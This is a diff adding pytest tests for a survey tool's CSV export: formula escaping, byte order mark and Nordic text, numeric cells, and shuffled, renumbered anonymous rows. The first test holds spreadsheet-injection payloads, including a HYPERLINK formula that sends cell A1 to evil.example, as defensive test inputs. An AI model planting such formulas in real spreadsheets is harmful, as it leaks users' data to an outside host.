@@ -1,0 +1,58 @@
+"""The CSV export is safe to open in a spreadsheet and keeps anonymous rows unlinkable."""
+
+from __future__ import annotations
+
+import csv
+import io
+import random
+from pathlib import Path
+
+from bot.export import csv_of
+from conversations.checks import read_survey
+
+SURVEYS = Path(__file__).resolve().parent.parent / "surveys"
+
+
+def survey(name: str):
+    path = SURVEYS / f"{name}.yaml"
+    return read_survey(path.read_text(encoding="utf-8"), source=str(path)).survey
+
+
+def table(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_a_formula_typed_as_an_answer_is_text_in_a_spreadsheet() -> None:
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3+cmd", "@SUM(A1)"]
+    attacks += ["\tTAB", "\rCR"]
+    library = survey("library-services")
+    rows = [(n, "completed", None) for n in range(1, len(attacks) + 1)]
+    answers = [(n, "improve", text) for n, text in enumerate(attacks, start=1)]
+    header, *exported = table(csv_of(library, rows, answers))
+    cells = [row[header.index("improve")] for row in exported]
+    assert cells == ["'" + text for text in attacks]
+
+
+def test_the_file_opens_with_a_byte_order_mark_and_keeps_nordic_letters() -> None:
+    library = survey("library-services")
+    data = csv_of(library, [(1, "completed", None)], [(1, "improve", "Enemmän äänikirjoja, så")])
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert "Enemmän äänikirjoja, så" in data.decode("utf-8-sig")
+
+
+def test_numbers_stay_numbers() -> None:
+    library = survey("library-services")
+    data = table(csv_of(library, [(1, "completed", None)], [(1, "satisfaction", 4)]))
+    assert data[1][data[0].index("satisfaction")] == "4"
+
+
+def test_anonymous_rows_follow_neither_invitations_nor_response_ids() -> None:
+    home_care = survey("home-care")
+    assert home_care.anonymous
+    responses = [(rid, "completed", 3600.0) for rid in (11, 12, 13, 14, 15)]
+    answers = [(rid, "visits_per_week", rid) for rid in (11, 12, 13, 14, 15)]
+    header, *rows = table(csv_of(home_care, responses, answers, shuffle=random.Random(3)))
+    column = header.index("visits_per_week")
+    assert [row[0] for row in rows] == ["1", "2", "3", "4", "5"]  # numbered anew
+    assert [row[column] for row in rows] != ["11", "12", "13", "14", "15"]  # and reordered
+    assert sorted(row[column] for row in rows) == ["11", "12", "13", "14", "15"]
